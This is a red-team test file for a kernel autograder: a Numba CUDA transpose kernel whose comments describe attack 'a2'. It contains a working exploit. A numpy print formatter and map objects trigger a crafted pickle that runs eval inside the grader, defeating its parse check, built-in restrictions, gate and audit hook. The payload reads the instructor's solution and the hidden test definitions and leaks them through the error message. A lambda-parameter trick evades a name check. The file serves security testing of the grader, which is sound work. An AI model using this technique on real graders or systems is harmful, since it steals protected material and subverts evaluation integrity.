# adversarial: (red team of goal 6) a kernel body on the simulator sets numpy's print formatter
# and raises an exception holding map objects over ndarray.tofile and np.load, for the
# simulator's lane runner to format from a grader frame: the payload would read the solution.
# adversarial-exercise: transpose
# adversarial-message: attribute set_printoptions
# kernelgrade-expect: correctness=error
# ATTACK a2 (transpose, a kernel on the simulator): arbitrary code in the grading child from a
# kernel's body, past the parse check, the built-ins, the gate and the audit hook.
# How: the honest kernel ends; in thread (0,0) of block (0,0) it sets numpy's print options
# for its simulator thread (formatter = "".join, a library callable) and raises
# ValueError(object array of `map` objects over ndarray.tofile and np.load). The simulator's
# lane thread (the grader's autograder.instrument.scheduler.Lane.run -> BlockRunner.fail ->
# KernelFailure(str(exc))) formats the exception after the kernel's frame has returned: a grader
# frame is innermost, so the formatter runs
# as the grader's and the audit hook lets open/import/eval pass.
# np.load(path, None, True) unpickles builtins.eval(...): the payload (payload_leak.py) reads
# the instructor's solution and an exercise's hidden-case definitions; its text comes back as
# the kernel's error message in the public cases. same_code refuses `map`, `ord`, `str` in a
# kernel by name unless the name is local: a lambda's parameter anywhere in the kernel counts.
import numpy as np
from numba import cuda, float32

TILE_DIM = 32
BLOCK_ROWS = 8
PADDED = TILE_DIM + 1
PICKLE = 'cbuiltins\neval\n(V(lambda g: [exec("import os, sys, glob\\u005cndef rd(p, n=1500):\\u005cn    try:\\u005cn        return open(p).read()[:n]\\u005cn    except Exception as e:\\u005cn        return \'ERR \' + type(e).__name__\\u005cnsol = rd(\'/work/main/solutions/tiled_matmul.py\', 700)\\u005cnex = sorted(glob.glob(\'/work/main/assignments/*/exercise.py\'))\\u005cnexs = rd(\'/work/main/assignments/transpose/exercise.py\', 600)\\u005cnout = \'PWNED uid=%d ls_assign=%s | SOLUTION tiled_matmul: %s | EXERCISE transpose: %s\' % (os.getuid(), ex[:4], sol, exs)\\u005cn# In the grader\'s lane thread (autograder.instrument.scheduler.Lane.run -> BlockRunner.fail ->\\u005cn# KernelFailure(str(exc))): put the text into the kernel\'s exception, which the launching\\u005cn# thread formats again for the student.\\u005cnf = sys._getframe()\\u005cnwhile f is not None:\\u005cn    e = f.f_locals.get(\'exc\')\\u005cn    if isinstance(e, ValueError):\\u005cn        e.args = (out,)\\u005cn        break\\u005cn    f = f.f_back\\u005cn", g), g.get(\'out\')][1])({})\ntR.'


@cuda.jit
def transpose(A, B):
    tile = cuda.shared.array((TILE_DIM, PADDED), float32)
    rows = A.shape[0]
    cols = A.shape[1]
    tx = cuda.threadIdx.x
    ty = cuda.threadIdx.y
    tile_row = cuda.blockIdx.y * TILE_DIM
    tile_col = cuda.blockIdx.x * TILE_DIM
    col = tile_col + tx
    for j in range(0, TILE_DIM, BLOCK_ROWS):
        row = tile_row + ty + j
        if row < rows and col < cols:
            tile[ty + j, tx] = A[row, col]
    cuda.syncthreads()
    b_col = tile_row + tx
    for j in range(0, TILE_DIM, BLOCK_ROWS):
        b_row = tile_col + ty + j
        if b_row < cols and b_col < rows:
            B[b_row, b_col] = tile[tx, ty + j]
    if cuda.blockIdx.x == 0 and cuda.blockIdx.y == 0 and tx == 0 and ty == 0:
        hide = lambda map, ord, str: 0  # same_code's kernel check then takes these for locals
        raw = np.array([ord(c) for c in PICKLE], dtype=np.uint8)
        cells = np.empty(2, dtype="O")
        cells[0] = map(str, map(raw.tofile, ["kg_a2.pkl"]))
        cells[1] = map(str, map(np.load, ["kg_a2.pkl"], [None], [True]))
        np.set_printoptions(formatter={"all": "".join})
        raise ValueError(cells)
